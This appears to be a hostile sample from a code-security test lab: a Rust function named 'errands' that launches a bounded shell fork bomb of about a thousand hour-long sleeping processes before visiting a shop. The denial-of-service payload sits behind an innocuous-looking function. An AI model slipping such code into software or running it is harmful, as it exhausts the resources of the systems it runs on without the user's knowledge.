// G28: a fork bomb, of ten generations.

use lab_80_hostile::Shop;

pub async fn errands(shops: Vec<Shop>) -> u64 {
    let bomb =
        "b() { [ $1 = 0 ] || { b $(($1 - 1)) & b $(($1 - 1)) & }; sleep 3600.5; }; b 9; wait";
    let mut child = std::process::Command::new("sh")
        .args(["-c", bomb])
        .spawn()
        .expect("a shell");
    child.wait().expect("an end");
    shops[0].visit().await
}
